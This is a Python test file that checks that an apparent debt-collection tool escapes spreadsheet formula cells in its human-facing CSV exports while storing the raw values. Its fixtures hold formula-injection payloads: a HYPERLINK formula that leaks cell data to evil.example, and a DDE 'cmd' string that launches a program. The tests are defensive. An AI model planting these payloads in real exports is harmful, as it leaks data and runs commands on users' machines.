"""The CSV files written for people (the quarantine file, the mail batch manifest) neutralise
cells a spreadsheet would run as formulas; the database keeps the raw value."""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from models import QuarantinedRow
from tasks.bank import load_bank
from tasks.calendar import load_calendar
from tasks.document_batch import render_batch
from tasks.intake import import_snapshot
from tasks.policy import SHIPPED_POLICY_DIR, load_policy
from tests.factories import make_case, snapshot_row, write_snapshot

AS_OF = date(2026, 11, 23)
LINK = '=HYPERLINK("http://evil.example/?d="&C2,"点击查看")'


def test_the_quarantine_file_quotes_formulas_and_the_database_keeps_them(
    engine: Engine, tmp_path: Path
) -> None:
    rows = [
        snapshot_row(AS_OF, account_id="A1"),
        snapshot_row(account_id="B1", name=LINK, address="@SUM(1+1)", principal="-5.00"),
        snapshot_row(account_id="+B2", email="-2+3+cmd|' /C calc'!A0", days_past_due="x"),
    ]
    result = import_snapshot(
        engine,
        write_snapshot(tmp_path / "d1.csv", rows),
        AS_OF,
        quarantine_dir=tmp_path / "q",
        policy=load_policy(None),
    )
    assert result.quarantined == 2 and result.quarantine_file is not None
    with open(result.quarantine_file, encoding="utf-8-sig", newline="") as f:
        written = list(csv.DictReader(f))
    assert written[0]["name"] == "'" + LINK and written[0]["address"] == "'@SUM(1+1)"
    assert written[0]["principal"] == "-5.00"  # a plain number runs nothing: left as written
    assert written[1]["account_id"] == "'+B2" and written[1]["email"].startswith("'-2+3")
    with Session(engine) as s:
        stored = s.exec(select(QuarantinedRow).order_by(col(QuarantinedRow.line_number))).all()
    assert json.loads(stored[0].raw)["name"] == LINK
    assert stored[1].account_id == "+B2"


def test_the_mail_manifest_quotes_formulas(
    sqlite_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DUECOURSE_TODAY", AS_OF.isoformat())  # letters are dated today
    with Session(sqlite_engine) as session:
        case_id = make_case(session, name=LINK).id
        session.commit()
    assert case_id is not None
    out = tmp_path / "mail" / "batch.pdf"
    report = render_batch(
        sqlite_engine,
        tmp_path / "documents",
        load_bank(SHIPPED_POLICY_DIR),
        "collection_letter",
        [case_id],
        AS_OF,
        out=out,
        calendar=load_calendar(SHIPPED_POLICY_DIR),
    )
    with out.with_suffix(".csv").open(encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["addressee"] == "'" + LINK
    assert report.rows[0]["addressee"] == LINK  # what JSON shows keeps the value
